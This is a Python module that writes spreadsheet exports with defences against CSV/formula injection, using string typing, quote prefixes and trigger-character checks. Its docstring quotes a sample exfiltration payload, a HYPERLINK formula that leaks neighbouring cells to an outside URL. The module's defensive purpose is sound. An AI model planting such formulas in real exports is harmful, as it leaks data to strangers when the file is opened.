"""The one writer of every spreadsheet the product hands out (XLSX and CSV): text a user typed
stays text.

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel and LibreOffice (CSV/formula injection): `=HYPERLINK("http://…/?leak="&B2,"Xem")` typed
as a contractor's name would send the neighbouring cells to a stranger when the manager opens
the export. OWASP's advice is followed:

- XLSX: every text cell is stored with the *string* data type (never a formula) and, when it
  begins with one of those characters, with Excel's "quote prefix" style — the file shows the
  text exactly as typed, and editing the cell keeps it text;
- CSV: a field beginning with one of those characters is prefixed with a single quote `'`
  (a CSV has no types), and every field is quoted.

Numbers, dates and booleans keep their types. No export writes a formula of its own; if one
ever needs to, it passes a `Formula` (so that user text can never be taken for one).

Use `new_workbook()` for a workbook, write cells as usual (`sheet.cell(...)`, `sheet.append`,
`cell.value = …`), and turn it into bytes with `workbook_bytes()`, which makes every text cell
safe before saving; `csv_bytes()` for a CSV.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# What makes a spreadsheet read text as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot hold (openpyxl refuses them): dropped from text, never a 500.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


class Formula(str):
    """A formula the product itself writes (never user text): kept as a formula."""


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def clean_text(text: str) -> str:
    return _ILLEGAL.sub("", text)


def make_cell_safe(cell: Cell) -> None:
    """A text cell holds text: the string type, and the quote prefix when it looks like a formula."""
    value = cell.value
    if not isinstance(value, str) or isinstance(value, Formula):
        return
    if cell.data_type != "s" or _ILLEGAL.search(value):
        cell.value = clean_text(value)  # re-binds the type (a formula when it begins with "=") …
        cell.data_type = "s"  # … so it is forced back to text
    if is_formula_like(cell.value) and not cell.quotePrefix:
        cell.quotePrefix = True


class SafeWorksheet(Worksheet):
    """A worksheet whose cells are made safe as they are written (and again before saving)."""

    def cell(self, row: int, column: int, value: Any = None) -> Cell:
        if isinstance(value, str) and not isinstance(value, Formula):
            value = clean_text(value)
        cell = super().cell(row=row, column=column, value=value)
        if value is not None:
            make_cell_safe(cell)
        return cell

    def append(self, iterable: Iterable[Any]) -> None:
        values = [
            clean_text(value) if isinstance(value, str) and not isinstance(value, Formula) else value
            for value in iterable
        ]
        super().append(values)
        for cell in self[self._current_row]:
            make_cell_safe(cell)


class SafeWorkbook(Workbook):
    """openpyxl's workbook with `SafeWorksheet`s (the first sheet included)."""

    def __init__(self) -> None:
        super().__init__()
        self._sheets = []
        self.create_sheet("Sheet")
        self.active = 0

    def create_sheet(self, title: str | None = None, index: int | None = None) -> SafeWorksheet:
        sheet = SafeWorksheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet


def new_workbook() -> SafeWorkbook:
    return SafeWorkbook()


def make_workbook_safe(book: Workbook) -> None:
    """Every text cell of every sheet as text (whatever wrote it)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                make_cell_safe(cell)


def workbook_bytes(book: Workbook) -> bytes:
    """The .xlsx file of `book`, every text cell made safe first."""
    make_workbook_safe(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- CSV ----------------------------------------------------------------------------------------


def csv_field(value: Any) -> str:
    """One CSV field: dates dd/mm/yyyy, numbers as digits, text that looks like a formula
    prefixed with a single quote."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, datetime.datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    if isinstance(value, datetime.date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, (int, float, Decimal, Formula)):
        return str(value)
    text = clean_text(str(value))
    return "'" + text if is_formula_like(text) else text


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A UTF-8 CSV (with a byte-order mark, so Excel reads the Vietnamese letters) of `rows`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
